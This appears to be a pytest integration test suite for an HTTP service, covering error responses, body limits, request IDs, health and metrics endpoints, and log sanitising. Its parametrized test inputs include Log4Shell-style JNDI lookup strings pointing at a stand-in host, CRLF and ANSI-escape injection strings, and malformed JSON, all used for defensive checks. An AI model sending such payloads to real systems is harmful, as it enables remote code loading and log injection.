"""Every service as an HTTP server: token checks, limits, logs and operations."""

import json
import logging
import socket
from collections.abc import AsyncIterator
from typing import Any

import pytest
from fastapi import FastAPI
from httpx import AsyncClient

from harness.logs import logging_as
from services.common.http.server import listen
from services.common.telemetry.requests import log
from tests.integration.common.sample import LIMIT, assert_problem


class TestErrors:
    @pytest.mark.parametrize(
        ("path", "status", "code"),
        [
            ("/broken/unknown", 404, "not_found"),
            ("/broken/gone", 410, "gone"),
            ("/broken/busy", 503, "unavailable"),
            ("/broken/bug", 500, "internal_error"),
            ("/nowhere", 404, "not_found"),
            ("/samples", 405, "method_not_allowed"),
        ],
    )
    async def test_each_is_a_problem_document(
        self, client: AsyncClient, path: str, status: int, code: str
    ) -> None:
        answer = await client.get(path)

        assert_problem(answer, status, code)
        assert "passwd" not in answer.text

    async def test_errors_may_have_headers_and_members(self, client: AsyncClient) -> None:
        busy, gone = await client.get("/broken/busy"), await client.get("/broken/gone")

        assert busy.headers["Retry-After"] == "7"
        assert gone.json()["since"] == "yesterday"

    async def test_an_invalid_body_names_every_field_and_repeats_no_input(
        self, client: AsyncClient
    ) -> None:
        answer = await client.post("/samples", json={"size": "hunter2", "password": "hunter2"})

        assert_problem(answer, 422, "invalid_input")
        locations = {tuple(error["loc"]) for error in answer.json()["errors"]}
        assert locations == {("body", "name"), ("body", "size"), ("body", "password")}
        assert all(set(error) == {"loc", "msg"} for error in answer.json()["errors"])
        assert "hunter2" not in answer.text

    async def test_at_most_fifty_are_named_and_names_are_clipped(self, client: AsyncClient) -> None:
        unexpected = {f"é\n{n}": 1 for n in range(60)}
        answer = await client.post("/samples", json=unexpected)

        errors = answer.json()["errors"]
        assert len(errors) == 50
        assert all(name.isascii() and "\n" not in name for error in errors for name in error["loc"])

    @pytest.mark.parametrize(
        "body",
        [
            b"",
            b"{",
            b"\xff",
            b"\xef\xbb\xbf{}",
            b'{"name": "\\ud800", "size": 1}',
            b'{"name": "x", "size": NaN}',
            b'{"name": "x", "size": Infinity}',
            b'{"name": "x", "size": 1e400}',
            b'{"name": "x", "size": true}',
            b'{"name": "x", "size": "1"}',
            b'{"name": "x", "size": ' + b"9" * 900 + b"}",
            b"[" * 900,
            b"null",
            b'"text"',
        ],
    )
    async def test_hostile_json_gets_a_client_error(self, client: AsyncClient, body: bytes) -> None:
        answer = await client.post(
            "/samples", content=body, headers={"Content-Type": "application/json"}
        )

        assert_problem(answer, 422, "invalid_input")

    @pytest.mark.parametrize("body", [{"data": {"name": "x"}}, {"content": b"{"}])
    async def test_a_body_that_is_not_sent_as_json_is_asked_to_be(
        self, client: AsyncClient, body: dict[str, Any]
    ) -> None:
        answer = await client.post("/samples", **body)

        [error] = answer.json()["errors"]
        assert error["loc"] == ["body"]
        assert "Content-Type: application/json" in error["msg"]


class TestBodies:
    async def test_an_anonymous_body_is_not_even_read(self, client: AsyncClient) -> None:
        read = 0

        async def body() -> AsyncIterator[bytes]:
            nonlocal read
            for _ in range(16):
                read += 1
                yield b"{bad json" * 7000

        answer = await client.post("/private", content=body())

        assert_problem(answer, 401, "invalid_token")
        assert answer.headers["WWW-Authenticate"] == "Bearer"
        assert read == 0

    async def test_a_large_body_is_413_with_or_without_content_length(
        self, client: AsyncClient
    ) -> None:
        read = 0

        async def endless() -> AsyncIterator[bytes]:
            nonlocal read
            while True:
                read += 1
                yield b"x" * 100

        announced = await client.post("/samples", content=b"x" * (LIMIT + 1))
        assert_problem(announced, 413, "body_too_large")

        chunked = await client.post("/samples", content=endless())
        assert chunked.status_code == 413
        assert read <= LIMIT / 100 + 2

    async def test_a_compressed_body_is_415(self, client: AsyncClient) -> None:
        for encoding in ("gzip", "br", "deflate", "zstd"):
            answer = await client.post(
                "/samples", content=b"\x1f\x8b", headers={"Content-Encoding": encoding}
            )

            assert_problem(answer, 415, "unsupported_media_type")

    async def test_a_valid_body_is_accepted(self, client: AsyncClient) -> None:
        answer = await client.post("/samples", json={"name": "x", "size": 1.5})

        assert (answer.status_code, answer.json()) == (200, {"name": "x"})


class TestRequestIds:
    async def test_a_valid_request_id_is_kept(self, client: AsyncClient) -> None:
        answer = await client.get("/healthz", headers={"X-Request-ID": "abc-1.2:3_4"})

        assert answer.headers["x-request-id"] == "abc-1.2:3_4"

    @pytest.mark.parametrize("sent", ["", "x" * 129, "a b", "é", '"}', "${jndi:ldap://x}"])
    async def test_an_invalid_request_id_is_replaced(self, client: AsyncClient, sent: str) -> None:
        answer = await client.get("/healthz", headers=[(b"X-Request-ID", sent.encode())])

        assert answer.headers["x-request-id"] not in ("", sent)


class TestOperations:
    async def test_readyz_names_the_failing_checks(self, app: FastAPI, client: AsyncClient) -> None:
        assert (await client.get("/readyz")).json() == {"status": "ok", "failing": {}}

        app.state.ailment = "It is away."
        answer = await client.get("/readyz")

        assert answer.status_code == 503
        assert answer.json()["failing"] == {"database": "It is away."}
        assert answer.headers["Retry-After"] == "1"
        assert (await client.get("/healthz")).status_code == 200

    async def test_metrics_report_the_latest_result_of_readyz(
        self, app: FastAPI, client: AsyncClient
    ) -> None:
        ready = []
        for ailment in (None, "It is away.", None):
            app.state.ailment = ailment
            await client.get("/readyz")
            ready.append("\nservice_ready 1.0\n" in (await client.get("/metrics")).text)

        assert ready == [True, False, True]

    async def test_metrics_count_by_route_and_not_by_path(self, client: AsyncClient) -> None:
        for path in ("/broken/gone", "/broken/unknown", "/nowhere/1", "/nowhere/2"):
            await client.get(path)
        await client.request("BREW", "/nowhere")

        text = (await client.get("/metrics")).text

        assert 'route="/broken/{how}",status="410"} 1.0' in text
        assert 'http_requests_total{method="GET",route="unmatched",status="404"} 2.0' in text
        assert 'method="other"' in text
        assert "nowhere" not in text

    async def test_the_docs_page_uses_no_other_host(self, client: AsyncClient) -> None:
        page = await client.get("/docs")

        assert "//" not in page.text.replace("http://sample.test", "").split("<script>")[0]
        for asset in ("swagger-ui-bundle.js", "swagger-ui.css", "favicon.png"):
            assert (await client.get(f"/docs/assets/{asset}")).status_code == 200

    def test_a_port_in_use_is_one_clear_line(self, capsys: pytest.CaptureFixture[str]) -> None:
        with socket.create_server(("127.0.0.1", 0)) as occupied, pytest.raises(SystemExit):
            listen("127.0.0.1", occupied.getsockname()[1], variable="SAMPLE_PORT")

        stderr = capsys.readouterr().err
        assert stderr.startswith("error: SAMPLE_PORT: cannot listen on 127.0.0.1:")
        assert stderr.count("\n") == 1


class TestLogs:
    @pytest.mark.parametrize(
        "hostile",
        [
            "a\r\nb",
            "\x1b[31mred\x1b[0m",
            "${jndi:ldap://evil.test/a}",
            "x" * 1_000_000,
            "\u2028é\0",
        ],
    )
    async def test_hostile_input_is_logged_as_one_json_line(
        self, client: AsyncClient, capsys: pytest.CaptureFixture[str], hostile: str
    ) -> None:
        headers = [(b"user-agent", hostile.encode()), (b"x-request-id", hostile.encode())]
        with logging_as("sample"):
            await client.get("/nowhere", headers=headers, params={"token": "hunter2"})
            log.info("hostile", value=hostile)
            logging.getLogger("foreign").warning("hostile %s", hostile)

        stderr = capsys.readouterr().err
        lines = [json.loads(line) for line in stderr.splitlines()]
        assert lines[0]["event"] == "request_completed"
        assert [line["event"][:7] for line in lines] == ["request", "hostile", "hostile"]
        assert all(line["service"] == "sample" for line in lines)
        assert stderr.isascii()
        assert "\x1b" not in stderr
        assert len(stderr) < 10_000
        assert "hunter2" not in stderr

    async def test_an_unhandled_error_is_one_line_with_its_traceback_and_request_id(
        self, client: AsyncClient, capsys: pytest.CaptureFixture[str]
    ) -> None:
        with logging_as("sample"):
            answer = await client.get("/broken/bug")

        error, request = [json.loads(line) for line in capsys.readouterr().err.splitlines()]
        assert (error["event"], error["level"]) == ("request_failed", "error")
        assert "ZeroDivisionError" in error["exception"]
        assert error["request_id"] == request["request_id"] == answer.headers["x-request-id"]
        assert request["status"] == 500
